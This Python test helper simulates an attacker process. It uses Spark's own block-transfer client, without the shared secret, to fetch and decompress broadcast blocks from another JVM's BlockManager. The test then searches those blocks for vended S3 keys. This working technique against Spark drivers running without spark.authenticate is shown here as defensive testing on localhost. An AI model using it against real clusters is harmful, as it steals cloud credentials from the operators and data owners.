"""An attacker's process: Spark's own block-transfer client, with no secret, fetching another JVM's blocks.

Iceberg's Spark scans broadcast the table and its FileIO properties (vended ``s3.*`` keys included) from
the driver's BlockManager. Anyone who can open a TCP connection to that BlockManager and speaks Spark's
protocol can fetch those blocks — unless ``spark.authenticate`` is on. This child process is that attacker:
a plain pyspark of its own (no ``spark.authenticate``, no secret), driving its ``BlockTransferService``
(``fetchBlockSync``) against each given port of the victim, for ``broadcast_<n>_piece0`` with n from 0 up.
Each fetched piece is decompressed with the victim's default codec (lz4) and printed, so the test can look
for the victim's keys in it.

    python -m tests._blockthief <host>:<port>[,<host>:<port>…] <highest broadcast id>

prints one JSON object: ``{"fetched": {"<port>/<block>": "<payload, base64>"}, "refused": {"<port>": "<error>"}}``.
``targets(pid)``: every socket a process listens on, as an attacker on this host would find them (``ss -ltn``).
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any


def steal(targets: list[tuple[str, int]], highest: int) -> dict[str, Any]:
    from pyspark.sql import SparkSession

    spark = (
        SparkSession.builder.master("local[1]")
        .appName("thief")
        .config("spark.ui.enabled", "false")
        .config("spark.driver.bindAddress", "127.0.0.1")
        .config("spark.driver.host", "127.0.0.1")
        .config("spark.shuffle.io.connectionTimeout", "15s")
        .config("spark.shuffle.io.maxRetries", "0")
        .getOrCreate()
    )
    jvm: Any = spark._jvm
    sc = spark._jsc.sc()
    transfer = jvm.org.apache.spark.SparkEnv.get().blockManager().blockTransferService()
    codec = jvm.org.apache.spark.io.CompressionCodec.createCodec(sc.conf(), "lz4")
    fetched: dict[str, str] = {}
    refused: dict[str, str] = {}
    for host, port in targets:
        misses = 0
        for n in range(highest + 1):
            block = f"broadcast_{n}_piece0"
            try:
                buffer = transfer.fetchBlockSync(host, port, "driver", block, None)
                data = bytes(codec.compressedInputStream(buffer.createInputStream()).readAllBytes())
            except Exception as exc:  # what the victim answered is the result
                java = getattr(exc, "java_exception", None)
                message = (str(java) if java is not None else str(exc)).splitlines()[0][:300]
                if "BlockNotFound" in str(exc) or "not found" in message.lower():
                    misses += 1
                    continue
                refused[str(port)] = message
                break  # the port refused the protocol itself: no block of it is reachable
            fetched[f"{port}/{block}"] = base64.b64encode(data).decode()
        if misses and str(port) not in refused and not any(k.startswith(f"{port}/") for k in fetched):
            refused.setdefault(str(port), "no block found")
    spark.stop()
    return {"fetched": fetched, "refused": refused}


def targets(pid: int) -> list[tuple[str, int]]:
    """Where ``pid`` listens, as an attacker connects to it (a wildcard address through loopback)."""
    from tests._sockets import listening

    return [("127.0.0.1" if addr in ("0.0.0.0", "::") else addr, port) for addr, port in listening(pid)]


def run(where: list[tuple[str, int]], highest: int = 40, *, timeout: float = 240.0) -> dict[str, Any]:
    """Run the attacker as a separate process (its own JVM, no secret) against ``where`` (``(host, port)``s);
    what it fetched and what refused it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("LAKESESSION_", "AWS_", "SPARK_"))}
    env["PYTHONPATH"] = str(Path(__file__).resolve().parent.parent)
    done = subprocess.run(
        [sys.executable, "-m", "tests._blockthief", ",".join(f"{h}:{p}" for h, p in where), str(highest)],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
    )
    lines = [line for line in done.stdout.splitlines() if line.startswith("{")]
    if done.returncode != 0 or not lines:
        raise RuntimeError(f"the attacker's process failed ({done.returncode}): {done.stderr[-3000:]}")
    result: dict[str, Any] = json.loads(lines[-1])
    return result


def payloads(result: dict[str, Any]) -> list[bytes]:
    """The decompressed blocks the attacker fetched."""
    return [base64.b64decode(v) for v in result["fetched"].values()]


def main(argv: list[str]) -> int:
    where = [(t.rsplit(":", 1)[0], int(t.rsplit(":", 1)[1])) for t in argv[0].split(",") if t]
    print(json.dumps(steal(where, int(argv[1]))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
